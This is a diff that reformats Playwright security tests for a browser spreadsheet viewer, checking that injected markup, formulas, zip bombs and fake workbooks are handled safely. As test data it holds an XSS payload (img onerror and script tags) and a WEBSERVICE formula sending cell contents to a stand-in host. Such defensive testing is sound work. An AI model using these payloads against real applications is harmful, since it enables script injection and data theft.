@@ -2,7 +2,15 @@
 import zlib from "node:zlib";
 import type { Browser, Page } from "playwright-core";
 import { readEntries, unpack, writeEntries, pack, crc32 } from "../../src/host/engine/zip.js";
-import { cellWith, changing, openFile, openPage, savedBytes, startBrowser, type OpenPage } from "./open-page.js";
+import {
+  cellWith,
+  changing,
+  openFile,
+  openPage,
+  savedBytes,
+  startBrowser,
+  type OpenPage,
+} from "./open-page.js";
 
 let browser: Browser;
 let opened: OpenPage;
@@ -19,7 +27,9 @@ beforeEach(async () => {
 afterEach(async () => {
   expect(opened.errors).toEqual([]);
   expect(opened.outside).toEqual([]);
-  expect(await page.evaluate(() => (window as unknown as { harmed?: boolean }).harmed)).toBeUndefined();
+  expect(
+    await page.evaluate(() => (window as unknown as { harmed?: boolean }).harmed)
+  ).toBeUndefined();
   await opened.context.close();
 });
 
@@ -55,7 +65,10 @@ const SCRIPT = `&lt;img src=x onerror="window.harmed=true"&gt;&lt;script&gt;wind
 test("markup in wall names is shown as text", async () => {
   const bytes = await changedHouse((path, text) =>
     /worksheets\/sheet|sharedStrings/.test(path)
-      ? text.replace(/(<t[^>]*>)South wing(<\/t>)/g, (_, a: string, b: string) => `${a}${SCRIPT.replace(/"/g, "&quot;")}${b}`)
+      ? text.replace(
+          /(<t[^>]*>)South wing(<\/t>)/g,
+          (_, a: string, b: string) => `${a}${SCRIPT.replace(/"/g, "&quot;")}${b}`
+        )
       : text
   );
   await changing(page, () => openFile(page, bytes));
@@ -71,10 +84,15 @@ test("markup in wall names is shown as text", async () => {
 test("formulas in names and in sheet names do nothing but show", async () => {
   const bytes = await changedHouse((path, text) =>
     path === "xl/workbook.xml"
-      ? text.replace(
-          /<\/sheets>/,
-          `</sheets><definedNames><definedName name="evil">WEBSERVICE("http://example.test/?"&amp;Walls!$A$1)</definedName><definedName name="loop">loop</definedName></definedNames>`
-        ).replace(/(<definedNames>[\s\S]*?<\/definedNames>)\s*<definedNames>[\s\S]*?<\/definedNames>/, "$1")
+      ? text
+          .replace(
+            /<\/sheets>/,
+            `</sheets><definedNames><definedName name="evil">WEBSERVICE("http://example.test/?"&amp;Walls!$A$1)</definedName><definedName name="loop">loop</definedName></definedNames>`
+          )
+          .replace(
+            /(<definedNames>[\s\S]*?<\/definedNames>)\s*<definedNames>[\s\S]*?<\/definedNames>/,
+            "$1"
+          )
       : text
   );
   await changing(page, () => openFile(page, bytes));
@@ -97,7 +115,10 @@ test("a zip bomb is refused with its reason", async () => {
 });
 
 test("a file that only looks like a workbook is refused with its reason", async () => {
-  await openFile(page, new TextEncoder().encode("<html>not a workbook at all, by any means</html>"));
+  await openFile(
+    page,
+    new TextEncoder().encode("<html>not a workbook at all, by any means</html>")
+  );
   expect(await notice()).toMatch(/not opened/);
   await cellWith(page, "Walls", "A", "South wing");
 });
@@ -112,10 +133,7 @@ test("fifty thousand walls neither hang the page nor keep it from opening anothe
   const bytes = await changedHouse((path, text) => {
     if (!/worksheets\/sheet\d+\.xml$/.test(path) || !text.includes("South wing")) return text;
     const head = /<row r="1"[\s\S]*?<\/row>/.exec(text)?.[0] ?? "";
-    return text.replace(
-      /<sheetData>[\s\S]*<\/sheetData>/,
-      `<sheetData>${head}${rows}</sheetData>`
-    );
+    return text.replace(/<sheetData>[\s\S]*<\/sheetData>/, `<sheetData>${head}${rows}</sheetData>`);
   });
   await openFile(page, bytes, "many.xlsx");
   await page.waitForFunction(() => document.title.includes("many"), undefined, { timeout: 60_000 });
